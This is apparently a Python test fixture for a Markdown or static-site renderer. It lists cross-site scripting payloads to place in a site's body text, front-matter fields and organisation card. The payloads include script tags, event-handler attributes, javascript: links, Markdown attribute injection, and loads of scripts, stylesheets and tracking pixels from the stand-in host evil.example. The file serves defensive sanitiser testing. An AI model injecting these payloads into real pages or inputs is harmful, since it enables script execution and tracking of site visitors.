"""Cross-site scripting payloads, and where each one is put in a fixture site.

Every payload tries to run `alert()` (a dialog the browser test counts), to set
`window.__xss`, or to make the browser contact another origin (`evil.example`).
"""

from __future__ import annotations

# Markdown or HTML put in the body of a text.
BODY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>ok</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    '<a href="javascript:alert(1)">enlace</a>',
    '<a href="JaVaScRiPt:alert(1)">enlace</a>',
    '<a href="jav&#x09;ascript:alert(1)">enlace</a>',
    '<a href="&#106;avascript:alert(1)">enlace</a>',
    '<a href=" javascript:alert(1)">enlace</a>',
    '<a href="vbscript:msgbox(1)">enlace</a>',
    '<a href="data:text/html,<script>alert(1)</script>">enlace</a>',
    '<a href="https://example.org" onclick="alert(1)">enlace</a>',
    '<a href="#" onmouseover="alert(1)" style="display:block;position:fixed;inset:0">x</a>',
    "[enlace](javascript:alert(1))",
    "[enlace](JAVASCRIPT:alert(1))",
    "[enlace](javascript&#58;alert(1))",
    "[enlace](<javascript:alert(1)>)",
    '[enlace](https://example.org "titulo" onmouseover="alert(1)")',
    '[enlace](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "![imagen](javascript:alert(1))",
    '![imagen](x "titulo\\" onerror=\\"alert(1)")',
    '![imagen" onerror="alert(1)](x.png)',
    "![rastreo](https://evil.example/pixel.png)",
    '<img src="https://evil.example/pixel.png" alt="rastreo">',
    '<img srcset="https://evil.example/a.png 2x" alt="rastreo">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; "
    "body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">estilo</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    'Texto\n{: onmouseover="alert(1)" }',
    'Párrafo\n{: onclick="alert(1)" style="position:fixed;inset:0" }',
    '## Título {: onmouseover="alert(1)" }',
    '<div markdown="1" onmouseover="alert(1)">x</div>',
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a href="https://example.org" target="_blank">abre</a><span id="main">clobber</span>',
    '<form id="test"><input name="action"></form>',
    "<x onclick=alert(1)>etiqueta inventada</x>",
]

# Plain-text fields of a text's front matter (YAML strings).
FIELDS = {
    "title": "<script>alert(1)</script> título",
    "summary": "<img src=x onerror=alert(1)> resumen [x](javascript:alert(1))",
    "image_alt": '"><img src=x onerror=alert(1)>',
    "tags": ["<svg onload=alert(1)>", "javascript:alert(1)"],
    "authors": ["<b onmouseover=alert(1)>autora</b>"],
    "place": "<iframe src=javascript:alert(1)></iframe>",
}

# Fields of the organization's card.
CARD = {
    "name": "<script>alert(1)</script> Colectivo",
    "short_name": "<img src=x onerror=alert(1)>",
    "description": "<svg onload=alert(1)> descripción",
    "contact": "<a href=javascript:alert(1)>contacto</a>",
    "license": "</dd><script>alert(1)</script>",
}


def count() -> int:
    return len(BODY) + len(FIELDS) + len(CARD)
